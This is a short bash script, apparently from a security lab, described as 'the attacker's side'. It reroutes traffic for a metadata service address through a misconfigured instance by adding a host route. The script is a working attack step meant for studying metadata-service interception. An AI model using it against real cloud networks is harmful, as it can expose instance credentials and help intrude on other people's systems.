#!/usr/bin/env bash
# The attacker's side: send traffic for the metadata service to the misconfigured instance.
# Usage: attacker.sh INSTANCE_ADDRESS          (run on the attacker host or in its namespace)
set -euo pipefail
# shellcheck source-path=SCRIPTDIR source=lab-env.sh
source "$(dirname "${BASH_SOURCE[0]}")/lab-env.sh"
gateway="${1:?usage: attacker.sh INSTANCE_ADDRESS}"
ip route replace "${IHLAB_SERVICE_ADDR}/32" via "$gateway"
echo "attacker: ${IHLAB_SERVICE_ADDR} via ${gateway}"
